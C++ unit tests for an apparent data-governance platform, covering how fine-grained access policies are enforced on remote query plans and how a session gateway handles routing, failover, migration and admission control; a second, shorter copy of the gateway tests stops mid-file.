    auto result = setup_->engine->ExecuteSql(sql, admin_ctx_);
    ASSERT_TRUE(result.ok()) << sql << " -> " << result.status();
  }

  Result<QueryEngine::ExplainedExecution> RunOnDedicated(
      const std::string& sql) {
    auto stmt = ParseSql(sql);
    EXPECT_TRUE(stmt.ok());
    return dedicated_->engine->ExecutePlanExplained(
        std::get<SelectStatement>(*stmt).plan, eve_ctx_);
  }

  LakeguardPlatform platform_;
  ClusterHandle* setup_ = nullptr;
  ClusterHandle* dedicated_ = nullptr;
  ExecutionContext admin_ctx_;
  ExecutionContext eve_ctx_;
};

TEST_F(EfgacTest, Fig8QueryRewritesToRemoteScan) {
  auto exec = RunOnDedicated(
      "SELECT amount, order_date, seller FROM main.s.sales "
      "WHERE order_date = '2024-12-01'");
  ASSERT_TRUE(exec.ok()) << exec.status();
  // The rewritten tree is a single RemoteScan: filter and project pushed.
  EXPECT_EQ(exec->rewritten->kind(), PlanKind::kRemoteScan);
  EXPECT_EQ(CountPlanNodes(exec->rewritten, PlanKind::kRemoteScan), 1u);
  // Results honour the row filter even though it never appeared locally.
  EXPECT_EQ(exec->result.num_rows(), 2u);  // only US rows of 2024-12-01
}

TEST_F(EfgacTest, PolicyPredicateNeverInDedicatedPlan) {
  auto exec = RunOnDedicated("SELECT amount FROM main.s.sales");
  ASSERT_TRUE(exec.ok());
  for (const PlanPtr& plan :
       {exec->rewritten, exec->resolved, exec->optimized}) {
    std::string tree = plan->ToTreeString();
    EXPECT_EQ(tree.find("region"), std::string::npos)
        << "policy column leaked into dedicated plan:\n"
        << tree;
    EXPECT_EQ(tree.find("'US'"), std::string::npos);
  }
}

TEST_F(EfgacTest, SerializedRemotePlanCarriesNoPolicies) {
  auto exec = RunOnDedicated("SELECT amount FROM main.s.sales");
  ASSERT_TRUE(exec.ok());
  const auto& scan = static_cast<const RemoteScanNode&>(*exec->rewritten);
  auto bytes = PlanToBytes(scan.remote_plan());
  std::string as_string(bytes.begin(), bytes.end());
  EXPECT_EQ(as_string.find("US"), std::string::npos);
  EXPECT_EQ(as_string.find("region"), std::string::npos);
}

TEST_F(EfgacTest, AggregatePushedIntoRemoteScan) {
  platform_.efgac_rewriter().ResetStats();
  auto exec = RunOnDedicated(
      "SELECT SUM(amount) AS total FROM main.s.sales");
  ASSERT_TRUE(exec.ok()) << exec.status();
  EXPECT_GE(platform_.efgac_rewriter().stats().aggregates_pushed, 1u);
  EXPECT_EQ(exec->result.Combine()->CellAt(0, 0).int_value(),
            120 + 340 + 55);  // US rows only
}

TEST_F(EfgacTest, LimitPushedIntoRemoteScan) {
  platform_.efgac_rewriter().ResetStats();
  auto exec = RunOnDedicated("SELECT amount FROM main.s.sales LIMIT 1");
  ASSERT_TRUE(exec.ok());
  EXPECT_GE(platform_.efgac_rewriter().stats().limits_pushed, 1u);
  EXPECT_EQ(exec->result.num_rows(), 1u);
}

TEST_F(EfgacTest, PlainTableStaysLocalOnDedicated) {
  Must("CREATE TABLE main.s.plain (x BIGINT)");
  Must("INSERT INTO main.s.plain VALUES (1), (2)");
  Must("GRANT SELECT ON main.s.plain TO eve");
  auto exec = RunOnDedicated("SELECT x FROM main.s.plain");
  ASSERT_TRUE(exec.ok()) << exec.status();
  EXPECT_EQ(CountPlanNodes(exec->rewritten, PlanKind::kRemoteScan), 0u);
  EXPECT_EQ(exec->result.num_rows(), 2u);
}

TEST_F(EfgacTest, ViewsServedExternallyOnDedicated) {
  Must("CREATE VIEW main.s.big_sales AS "
       "SELECT seller, amount FROM main.s.sales WHERE amount > 100");
  Must("GRANT SELECT ON main.s.big_sales TO eve");
  auto exec = RunOnDedicated("SELECT seller FROM main.s.big_sales");
  ASSERT_TRUE(exec.ok()) << exec.status();
  EXPECT_EQ(CountPlanNodes(exec->rewritten, PlanKind::kRemoteScan), 1u);
  // Row filter (US) AND view predicate (>100) both applied remotely.
  EXPECT_EQ(exec->result.num_rows(), 2u);  // ann(120), joe(340)
}

TEST_F(EfgacTest, SmallResultReturnsInline) {
  platform_.serverless_backend().ResetStats();
  auto exec = RunOnDedicated("SELECT SUM(amount) AS t FROM main.s.sales");
  ASSERT_TRUE(exec.ok());
  const EfgacStats& stats = platform_.serverless_backend().stats();
  EXPECT_EQ(stats.inline_results, 1u);
  EXPECT_EQ(stats.spilled_results, 0u);
}

TEST_F(EfgacTest, LargeResultSpillsToCloudStorage) {
  Must("CREATE TABLE main.s.wide (payload STRING)");
  std::string filler(1000, 'x');
  for (int chunk = 0; chunk < 4; ++chunk) {
    std::string sql = "INSERT INTO main.s.wide VALUES ('" + filler + "')";
    for (int i = 1; i < 100; ++i) sql += ", ('" + filler + "')";
    Must(sql);
  }
  Must("ALTER TABLE main.s.wide SET ROW FILTER (TRUE)");
  Must("GRANT SELECT ON main.s.wide TO eve");

  platform_.serverless_backend().ResetStats();
  size_t objects_before = platform_.store().ObjectCount();
  auto exec = RunOnDedicated("SELECT payload FROM main.s.wide");
  ASSERT_TRUE(exec.ok()) << exec.status();
  EXPECT_EQ(exec->result.num_rows(), 400u);
  const EfgacStats& stats = platform_.serverless_backend().stats();
  EXPECT_EQ(stats.spilled_results, 1u);
  EXPECT_GT(stats.spilled_bytes, 256u * 1024);
  // Spill objects were cleaned up after the origin consumed them.
  EXPECT_EQ(platform_.store().ObjectCount(), objects_before);
}

TEST_F(EfgacTest, DirectAnalysisWithoutRewriteFailsClosed) {
  // Defense in depth: if the rewriter is bypassed, the analyzer refuses.
  auto stmt = ParseSql("SELECT amount FROM main.s.sales");
  ASSERT_TRUE(stmt.ok());
  Analyzer analyzer(&platform_.catalog(), eve_ctx_);
  auto analysis = analyzer.Analyze(std::get<SelectStatement>(*stmt).plan);
  EXPECT_TRUE(analysis.status().IsFailedPrecondition());
}

TEST_F(EfgacTest, RemoteExecutionRunsAsTheSameUser) {
  auto exec = RunOnDedicated(
      "SELECT seller FROM main.s.sales WHERE seller = CURRENT_USER()");
  ASSERT_TRUE(exec.ok());
  EXPECT_EQ(exec->result.num_rows(), 0u);  // no 'eve' rows
  Must("INSERT INTO main.s.sales VALUES ('US', 1, '2024-12-03', 'eve')");
  auto exec2 = RunOnDedicated(
      "SELECT seller FROM main.s.sales WHERE seller = CURRENT_USER()");
  ASSERT_TRUE(exec2.ok());
  EXPECT_EQ(exec2->result.num_rows(), 1u);
}

TEST_F(EfgacTest, OptimizerNeverRelocalizesPolicyBearingScan) {
  // V4 regression: filter/project/aggregate/limit pushdown on a Dedicated
  // cluster must push *into* the RemoteScan's unresolved sub-plan, never
  // materialize a local ResolvedScan of the policy-bearing table. The
  // PlanVerifier flags any such residual scan as PV004; here we also pin
  // the structural property directly across every optimized shape.
  for (const char* sql : {
           "SELECT amount FROM main.s.sales WHERE amount > 100",
           "SELECT SUM(amount) AS t FROM main.s.sales",
           "SELECT seller FROM main.s.sales "
           "WHERE order_date = '2024-12-01' LIMIT 2",
       }) {
    auto exec = RunOnDedicated(sql);
    ASSERT_TRUE(exec.ok()) << sql << " -> " << exec.status();
    for (const PlanPtr& plan : {exec->rewritten, exec->optimized}) {
      EXPECT_EQ(CountPlanNodes(plan, PlanKind::kResolvedScan), 0u)
          << sql << " re-localized the scan:\n" << plan->ToTreeString();
      EXPECT_EQ(CountPlanNodes(plan, PlanKind::kRemoteScan), 1u) << sql;
    }
    PlanVerifier verifier(&platform_.catalog());
    Diagnostics diags = verifier.Verify(exec->optimized, eve_ctx_, nullptr);
    EXPECT_FALSE(diags.HasCode(PlanVerifier::kResidualLocalScan))
        << diags.ToString();
  }
}

TEST_F(EfgacTest, StorageCredentialNeverVendedToDedicated) {
  size_t denied_before = platform_.store().stats().access_denied;
  auto exec = RunOnDedicated("SELECT amount FROM main.s.sales");
  ASSERT_TRUE(exec.ok());
  // The dedicated engine performed no denied direct reads — it never even
  // attempted them, because resolution withheld the storage root.
  EXPECT_EQ(platform_.store().stats().access_denied, denied_before);
  // And the catalog audit shows external-enforcement resolution.
  bool saw_external = false;
  for (const AuditEvent& e : platform_.catalog().audit().All()) {
    if (e.principal == "eve" && e.detail.find("external") != std::string::npos) {
      saw_external = true;
    }
  }
  EXPECT_TRUE(saw_external);
}

}  // namespace
}  // namespace lakeguard
