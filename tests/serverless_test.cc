// Tests for src/serverless: the Spark Connect Gateway (routing, autoscale,
// migration, scale-down) and workload environments (§6.2, §6.3).

#include <gtest/gtest.h>

#include <atomic>
#include <mutex>
#include <thread>
#include <vector>

#include "common/fault.h"
#include "common/retry.h"
#include "common/sha256.h"
#include "core/platform.h"

namespace lakeguard {
namespace {

class GatewayTest : public ::testing::Test {
 protected:
  explicit GatewayTest(LakeguardPlatform::Options options)
      : platform_(options) {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("uma").ok());
    EXPECT_TRUE(platform_.AddUser("vic").ok());
    platform_.AddMetastoreAdmin("admin");
    platform_.RegisterToken("tok-admin", "admin");
    platform_.RegisterToken("tok-uma", "uma");
    platform_.RegisterToken("tok-vic", "vic");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    ClusterHandle* setup = platform_.CreateStandardCluster();
    auto ctx = *platform_.DirectContext(setup, "admin");
    EXPECT_TRUE(setup->engine
                    ->ExecuteSql("CREATE TABLE main.s.t (x BIGINT)", ctx)
                    .ok());
    EXPECT_TRUE(setup->engine
                    ->ExecuteSql("INSERT INTO main.s.t VALUES (1), (2)", ctx)
                    .ok());
    for (const char* u : {"uma", "vic"}) {
      EXPECT_TRUE(platform_.catalog()
                      .Grant("admin", "main", Privilege::kUseCatalog, u)
                      .ok());
      EXPECT_TRUE(platform_.catalog()
                      .Grant("admin", "main.s", Privilege::kUseSchema, u)
                      .ok());
      EXPECT_TRUE(platform_.catalog()
                      .Grant("admin", "main.s.t", Privilege::kSelect, u)
                      .ok());
    }
  }

  GatewayTest() : GatewayTest(MakeOptions()) {}

  static LakeguardPlatform::Options MakeOptions() {
    LakeguardPlatform::Options options;
    options.gateway_config.max_sessions_per_backend = 2;
    options.gateway_config.backend_cold_start_micros = 30'000'000;
    return options;
  }

  LakeguardPlatform platform_;
};

TEST_F(GatewayTest, FirstSessionProvisionsBackend) {
  EXPECT_EQ(platform_.gateway().BackendCount(), 0u);
  int64_t before = platform_.clock()->NowMicros();
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  EXPECT_EQ(platform_.gateway().BackendCount(), 1u);
  EXPECT_EQ(platform_.clock()->NowMicros() - before, 30'000'000);
}

TEST_F(GatewayTest, SessionsPackUntilCapacityThenScaleOut) {
  ASSERT_TRUE(platform_.gateway().OpenSession("tok-uma").ok());
  ASSERT_TRUE(platform_.gateway().OpenSession("tok-vic").ok());
  EXPECT_EQ(platform_.gateway().BackendCount(), 1u);  // capacity 2
  ASSERT_TRUE(platform_.gateway().OpenSession("tok-uma").ok());
  EXPECT_EQ(platform_.gateway().BackendCount(), 2u);  // third -> new backend
  GatewayStats stats = platform_.gateway().stats();
  EXPECT_EQ(stats.sessions_opened, 3u);
  EXPECT_EQ(stats.backends_provisioned, 2u);
  EXPECT_EQ(stats.routed_to_existing, 1u);
}

TEST_F(GatewayTest, ExecuteSqlRoutesToPlacement) {
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  auto rows = platform_.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 2);
}

TEST_F(GatewayTest, MigrationKeepsExternalIdWorking) {
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  ASSERT_TRUE(platform_.gateway()
                  .ExecuteSql(*session, "SELECT x FROM main.s.t")
                  .ok());
  ASSERT_TRUE(platform_.gateway().MigrateSession(*session).ok());
  auto rows = platform_.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(platform_.gateway().stats().migrations, 1u);
  // Identity survived the migration.
  auto who = platform_.gateway().ExecuteSql(
      *session, "SELECT CURRENT_USER() AS u FROM main.s.t LIMIT 1");
  ASSERT_TRUE(who.ok());
  EXPECT_EQ(who->Combine()->CellAt(0, 0).string_value(), "uma");
}

TEST_F(GatewayTest, CloseAndScaleDown) {
  auto s1 = platform_.gateway().OpenSession("tok-uma");
  auto s2 = platform_.gateway().OpenSession("tok-vic");
  auto s3 = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(s1.ok() && s2.ok() && s3.ok());
  EXPECT_EQ(platform_.gateway().BackendCount(), 2u);
  ASSERT_TRUE(platform_.gateway().CloseSession(*s3).ok());
  size_t removed = platform_.gateway().ScaleDown();
  EXPECT_EQ(removed, 1u);  // second backend is now empty; min_backends=1
  EXPECT_EQ(platform_.gateway().BackendCount(), 1u);
}

TEST_F(GatewayTest, UnknownSessionRejected) {
  EXPECT_TRUE(platform_.gateway()
                  .ExecuteSql("xsess-nope", "SELECT 1")
                  .status()
                  .IsNotFound());
  EXPECT_TRUE(platform_.gateway().MigrateSession("xsess-nope").IsNotFound());
}

TEST_F(GatewayTest, TokenDigestStoredNotPlaintext) {
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  auto placement = platform_.gateway().SessionPlacement(*session);
  ASSERT_TRUE(placement.ok());
  // The gateway holds only the SHA-256 digest of the bearer token — the
  // plaintext must not be recoverable from gateway state.
  EXPECT_EQ(placement->token_digest, Sha256::HexDigest("tok-uma"));
  EXPECT_NE(placement->token_digest, "tok-uma");
  EXPECT_EQ(placement->token_digest.size(), 64u);
  EXPECT_EQ(placement->token_digest.find("tok"), std::string::npos);
  EXPECT_EQ(placement->user, "uma");
}

TEST_F(GatewayTest, KilledReplicaFailsOverTransparently) {
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  auto before = platform_.gateway().SessionPlacement(*session);
  ASSERT_TRUE(before.ok());
  ASSERT_TRUE(platform_.gateway().KillReplica(before->replica_id).ok());
  auto lost = platform_.gateway().SessionPlacement(*session);
  ASSERT_TRUE(lost.ok());
  EXPECT_TRUE(lost->lost);
  // The next call re-places the session on a fresh replica — the client
  // holds only the external id and observes no error at all here (no call
  // was in flight at kill time).
  auto rows = platform_.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 2);
  auto after = platform_.gateway().SessionPlacement(*session);
  ASSERT_TRUE(after.ok());
  EXPECT_FALSE(after->lost);
  EXPECT_NE(after->replica_id, before->replica_id);
  GatewayStats stats = platform_.gateway().stats();
  EXPECT_EQ(stats.replica_kills, 1u);
  EXPECT_EQ(stats.failovers, 1u);
  // Identity survived the failover re-authentication.
  auto who = platform_.gateway().ExecuteSql(
      *session, "SELECT CURRENT_USER() AS u FROM main.s.t LIMIT 1");
  ASSERT_TRUE(who.ok());
  EXPECT_EQ(who->Combine()->CellAt(0, 0).string_value(), "uma");
}

TEST_F(GatewayTest, BreakerOpensFastFailsThenProbeRecloses) {
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  std::string replica_id =
      platform_.gateway().SessionPlacement(*session)->replica_id;
  {
    // Three consecutive dispatch failures trip the replica's breaker.
    ScopedFault fault("gateway.route", FaultPolicy::FailTimes(3));
    for (int i = 0; i < 3; ++i) {
      auto rows = platform_.gateway().ExecuteSql(*session, "SELECT 1");
      ASSERT_FALSE(rows.ok());
      EXPECT_TRUE(IsTransientError(rows.status())) << rows.status();
    }
  }
  EXPECT_EQ(*platform_.gateway().ReplicaStateOf(replica_id),
            ReplicaState::kOpen);
  EXPECT_EQ(platform_.gateway().stats().breaker_open_events, 1u);
  // While open and inside the cooldown, calls fast-fail with a typed
  // retryable kUnavailable without touching the backend.
  auto shed = platform_.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_FALSE(shed.ok());
  EXPECT_TRUE(shed.status().IsUnavailable()) << shed.status();
  EXPECT_GE(platform_.gateway().stats().breaker_fast_fails, 1u);
  // After the cooldown a single half-open probe is admitted; its success
  // closes the breaker.
  platform_.clock()->AdvanceMicros(10'000'001);
  auto probe = platform_.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(probe.ok()) << probe.status();
  EXPECT_EQ(*platform_.gateway().ReplicaStateOf(replica_id),
            ReplicaState::kHealthy);
  GatewayStats stats = platform_.gateway().stats();
  EXPECT_EQ(stats.breaker_half_open_probes, 1u);
  EXPECT_EQ(stats.breaker_closes, 1u);
}

TEST_F(GatewayTest, DrainReplicaMigratesSessionsAndRetires) {
  auto s1 = platform_.gateway().OpenSession("tok-uma");
  auto s2 = platform_.gateway().OpenSession("tok-vic");
  ASSERT_TRUE(s1.ok() && s2.ok());
  std::string replica_id =
      platform_.gateway().SessionPlacement(*s1)->replica_id;
  ASSERT_TRUE(platform_.gateway().DrainReplica(replica_id).ok());
  // The drained replica is gone; both sessions moved and keep working.
  EXPECT_TRUE(
      platform_.gateway().ReplicaStateOf(replica_id).status().IsNotFound());
  for (const std::string& session : {*s1, *s2}) {
    EXPECT_NE(platform_.gateway().SessionPlacement(session)->replica_id,
              replica_id);
    auto rows = platform_.gateway().ExecuteSql(
        session, "SELECT COUNT(*) AS n FROM main.s.t");
    ASSERT_TRUE(rows.ok()) << rows.status();
  }
  GatewayStats stats = platform_.gateway().stats();
  EXPECT_EQ(stats.drains_completed, 1u);
  EXPECT_EQ(stats.migrations, 2u);
}

TEST_F(GatewayTest, RollingUpgradeReplacesFleetKeepingSessions) {
  auto s1 = platform_.gateway().OpenSession("tok-uma");
  auto s2 = platform_.gateway().OpenSession("tok-vic");
  auto s3 = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(s1.ok() && s2.ok() && s3.ok());
  std::vector<std::string> old_generation = platform_.gateway().ReplicaIds();
  ASSERT_EQ(old_generation.size(), 2u);
  ASSERT_TRUE(platform_.gateway().RollingUpgrade().ok());
  // Every old replica was drained and replaced; no session was lost.
  for (const std::string& old_id : old_generation) {
    EXPECT_TRUE(
        platform_.gateway().ReplicaStateOf(old_id).status().IsNotFound());
  }
  for (const std::string& session : {*s1, *s2, *s3}) {
    auto rows = platform_.gateway().ExecuteSql(
        session, "SELECT COUNT(*) AS n FROM main.s.t");
    ASSERT_TRUE(rows.ok()) << rows.status();
    EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 2);
  }
  GatewayStats stats = platform_.gateway().stats();
  EXPECT_EQ(stats.rolling_upgrades, 1u);
  EXPECT_EQ(stats.drains_completed, 2u);
  // A session drained off the first old replica may land on the second old
  // replica and move again when that one drains — so >= one hop per session.
  EXPECT_GE(stats.migrations, 3u);
}

TEST_F(GatewayTest, PreparedStatementSurvivesMigrationReverified) {
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  auto statement = platform_.gateway().PrepareStatement(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(statement.ok()) << statement.status();
  auto before = platform_.gateway().ExecuteStatement(*session, *statement);
  ASSERT_TRUE(before.ok()) << before.status();
  EXPECT_EQ(before->Combine()->CellAt(0, 0).int_value(), 2);
  ASSERT_TRUE(platform_.gateway().MigrateSession(*session).ok());
  // The statement handle survives the move: the destination re-prepared and
  // re-verified it under the imported identity, so it executes as before.
  auto after = platform_.gateway().ExecuteStatement(*session, *statement);
  ASSERT_TRUE(after.ok()) << after.status();
  EXPECT_EQ(after->Combine()->CellAt(0, 0).int_value(), 2);
}

TEST_F(GatewayTest, StreamingExecuteDeliversBatchesLazily) {
  // Grow the table past the inline-chunk limit (4 chunks x 1024 rows) so
  // the gateway stream exercises the lazy FetchChunk path end to end.
  ClusterHandle* setup = platform_.CreateStandardCluster();
  auto ctx = *platform_.DirectContext(setup, "admin");
  for (int batch = 0; batch < 5; ++batch) {
    std::string sql = "INSERT INTO main.s.t VALUES ";
    for (int i = 0; i < 1000; ++i) {
      if (i > 0) sql += ", ";
      sql += "(" + std::to_string(batch * 1000 + i) + ")";
    }
    ASSERT_TRUE(setup->engine->ExecuteSql(sql, ctx).ok());
  }
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  auto stream = platform_.gateway().ExecuteSqlStreaming(
      *session, "SELECT x FROM main.s.t");
  ASSERT_TRUE(stream.ok()) << stream.status();
  size_t rows = 0;
  size_t batches = 0;
  while (true) {
    auto batch = stream->Next();
    ASSERT_TRUE(batch.ok()) << batch.status();
    if (!batch->has_value()) break;
    rows += (*batch)->num_rows();
    ++batches;
  }
  EXPECT_EQ(rows, 5002u);
  EXPECT_GT(batches, 4u);  // streamed chunk by chunk, not one blob
  EXPECT_GE(platform_.gateway().stats().streams_opened, 1u);
}

TEST_F(GatewayTest, ScaleDownDuringMigrationNeverTearsDownTarget) {
  // Regression for the ScaleDown-vs-MigrateSession race: the migration
  // target replica briefly has zero sessions while the import is in flight;
  // a concurrent ScaleDown must not tear it down (the gateway pins both
  // ends of a migration with an inflight refcount).
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  std::atomic<bool> done{false};
  std::thread migrator([&] {
    for (int i = 0; i < 25; ++i) {
      Status migrated = platform_.gateway().MigrateSession(*session);
      EXPECT_TRUE(migrated.ok()) << migrated;
    }
    done.store(true);
  });
  while (!done.load()) {
    platform_.gateway().ScaleDown();
    std::this_thread::yield();
  }
  migrator.join();
  auto rows = platform_.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 2);
  EXPECT_EQ(platform_.gateway().stats().migrations, 25u);
}

// ---- Tenant QoS -----------------------------------------------------------------------

class GatewayQosTest : public GatewayTest {
 protected:
  GatewayQosTest() : GatewayTest(QosOptions()) {}

  static LakeguardPlatform::Options QosOptions() {
    LakeguardPlatform::Options options;
    options.gateway_config.max_sessions_per_backend = 8;
    options.gateway_config.backend_cold_start_micros = 0;
    options.gateway_config.admission.max_concurrent = 2;
    options.gateway_config.admission.max_queue_per_tenant = 16;
    options.gateway_config.admission.max_wait_micros = 120'000'000;
    return options;
  }
};

TEST_F(GatewayQosTest, WeightedFairAdmissionServesAllTenantsUnderBurst) {
  platform_.gateway().SetTenantWeight("uma", 4);
  auto uma = platform_.gateway().OpenSession("tok-uma");
  auto vic = platform_.gateway().OpenSession("tok-vic");
  ASSERT_TRUE(uma.ok() && vic.ok());
  std::atomic<int> failures{0};
  std::vector<std::thread> workers;
  for (int t = 0; t < 4; ++t) {
    std::string session = (t % 2 == 0) ? *uma : *vic;
    workers.emplace_back([this, session, &failures] {
      for (int i = 0; i < 5; ++i) {
        auto rows = platform_.gateway().ExecuteSql(
            session, "SELECT COUNT(*) AS n FROM main.s.t");
        if (!rows.ok()) ++failures;
      }
    });
  }
  for (std::thread& worker : workers) worker.join();
  // Weighted-fair admission throttles concurrency without shedding a
  // workload this small: everything completes, nothing starves.
  EXPECT_EQ(failures.load(), 0);
  FairSchedulerStats admission = platform_.gateway().admission_stats();
  EXPECT_EQ(admission.admitted, 20u);
  EXPECT_EQ(admission.shed_queue_full, 0u);
  EXPECT_EQ(admission.shed_timeout, 0u);
  EXPECT_EQ(platform_.gateway().admission_stats().admitted,
            platform_.gateway().stats().streams_opened);
}

// ---- Workload environments ------------------------------------------------------------

TEST(WorkloadEnvTest, PublishAndLookup) {
  WorkloadEnvironmentRegistry registry;
  WorkloadEnvironment v1;
  v1.version = "1";
  v1.client_version = "3.4";
  v1.interpreter = "lgvm-1";
  v1.dependencies = {{"numpyish", "1.21"}};
  ASSERT_TRUE(registry.Publish(v1).ok());
  EXPECT_EQ(registry.Publish(v1).code(), StatusCode::kAlreadyExists);

  WorkloadEnvironment v2 = v1;
  v2.version = "2";
  v2.dependencies["numpyish"] = "2.0";
  ASSERT_TRUE(registry.Publish(v2).ok());

  auto got = registry.Get("1");
  ASSERT_TRUE(got.ok());
  EXPECT_EQ(got->dependencies.at("numpyish"), "1.21");
  auto latest = registry.Latest();
  ASSERT_TRUE(latest.ok());
  EXPECT_EQ(latest->version, "2");
  EXPECT_EQ(registry.Versions().size(), 2u);
  EXPECT_TRUE(registry.Get("99").status().IsNotFound());
}

TEST(WorkloadEnvTest, EmptyRegistryHasNoLatest) {
  WorkloadEnvironmentRegistry registry;
  EXPECT_TRUE(registry.Latest().status().IsNotFound());
}

}  // namespace
}  // namespace lakeguard
