// Tests for src/serverless: the Spark Connect Gateway (routing, autoscale,
// migration, scale-down) and workload environments (§6.2, §6.3).

#include <gtest/gtest.h>

#include "core/platform.h"

namespace lakeguard {
namespace {

class GatewayTest : public ::testing::Test {
 protected:
  GatewayTest() : platform_(MakeOptions()) {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("uma").ok());
    EXPECT_TRUE(platform_.AddUser("vic").ok());
    platform_.AddMetastoreAdmin("admin");
    platform_.RegisterToken("tok-admin", "admin");
    platform_.RegisterToken("tok-uma", "uma");
    platform_.RegisterToken("tok-vic", "vic");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    ClusterHandle* setup = platform_.CreateStandardCluster();
    auto ctx = *platform_.DirectContext(setup, "admin");
    EXPECT_TRUE(setup->engine
                    ->ExecuteSql("CREATE TABLE main.s.t (x BIGINT)", ctx)
                    .ok());
    EXPECT_TRUE(setup->engine
                    ->ExecuteSql("INSERT INTO main.s.t VALUES (1), (2)", ctx)
                    .ok());
    for (const char* u : {"uma", "vic"}) {
      EXPECT_TRUE(platform_.catalog()
                      .Grant("admin", "main", Privilege::kUseCatalog, u)
                      .ok());
      EXPECT_TRUE(platform_.catalog()
                      .Grant("admin", "main.s", Privilege::kUseSchema, u)
                      .ok());
      EXPECT_TRUE(platform_.catalog()
                      .Grant("admin", "main.s.t", Privilege::kSelect, u)
                      .ok());
    }
  }

  static LakeguardPlatform::Options MakeOptions() {
    LakeguardPlatform::Options options;
    options.gateway_config.max_sessions_per_backend = 2;
    options.gateway_config.backend_cold_start_micros = 30'000'000;
    return options;
  }

  LakeguardPlatform platform_;
};

TEST_F(GatewayTest, FirstSessionProvisionsBackend) {
  EXPECT_EQ(platform_.gateway().BackendCount(), 0u);
  int64_t before = platform_.clock()->NowMicros();
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  EXPECT_EQ(platform_.gateway().BackendCount(), 1u);
  EXPECT_EQ(platform_.clock()->NowMicros() - before, 30'000'000);
}

TEST_F(GatewayTest, SessionsPackUntilCapacityThenScaleOut) {
  ASSERT_TRUE(platform_.gateway().OpenSession("tok-uma").ok());
  ASSERT_TRUE(platform_.gateway().OpenSession("tok-vic").ok());
  EXPECT_EQ(platform_.gateway().BackendCount(), 1u);  // capacity 2
  ASSERT_TRUE(platform_.gateway().OpenSession("tok-uma").ok());
  EXPECT_EQ(platform_.gateway().BackendCount(), 2u);  // third -> new backend
  GatewayStats stats = platform_.gateway().stats();
  EXPECT_EQ(stats.sessions_opened, 3u);
  EXPECT_EQ(stats.backends_provisioned, 2u);
  EXPECT_EQ(stats.routed_to_existing, 1u);
}

TEST_F(GatewayTest, ExecuteSqlRoutesToPlacement) {
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  auto rows = platform_.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 2);
}

TEST_F(GatewayTest, MigrationKeepsExternalIdWorking) {
  auto session = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(session.ok());
  ASSERT_TRUE(platform_.gateway()
                  .ExecuteSql(*session, "SELECT x FROM main.s.t")
                  .ok());
  ASSERT_TRUE(platform_.gateway().MigrateSession(*session).ok());
  auto rows = platform_.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(platform_.gateway().stats().migrations, 1u);
  // Identity survived the migration.
  auto who = platform_.gateway().ExecuteSql(
      *session, "SELECT CURRENT_USER() AS u FROM main.s.t LIMIT 1");
  ASSERT_TRUE(who.ok());
  EXPECT_EQ(who->Combine()->CellAt(0, 0).string_value(), "uma");
}

TEST_F(GatewayTest, CloseAndScaleDown) {
  auto s1 = platform_.gateway().OpenSession("tok-uma");
  auto s2 = platform_.gateway().OpenSession("tok-vic");
  auto s3 = platform_.gateway().OpenSession("tok-uma");
  ASSERT_TRUE(s1.ok() && s2.ok() && s3.ok());
  EXPECT_EQ(platform_.gateway().BackendCount(), 2u);
  ASSERT_TRUE(platform_.gateway().CloseSession(*s3).ok());
  size_t removed = platform_.gateway().ScaleDown();
  EXPECT_EQ(removed, 1u);  // second backend is now empty; min_backends=1
  EXPECT_EQ(platform_.gateway().BackendCount(), 1u);
}

TEST_F(GatewayTest, UnknownSessionRejected) {
  EXPECT_TRUE(platform_.gateway()
                  .ExecuteSql("xsess-nope", "SELECT 1")
                  .status()
                  .IsNotFound());
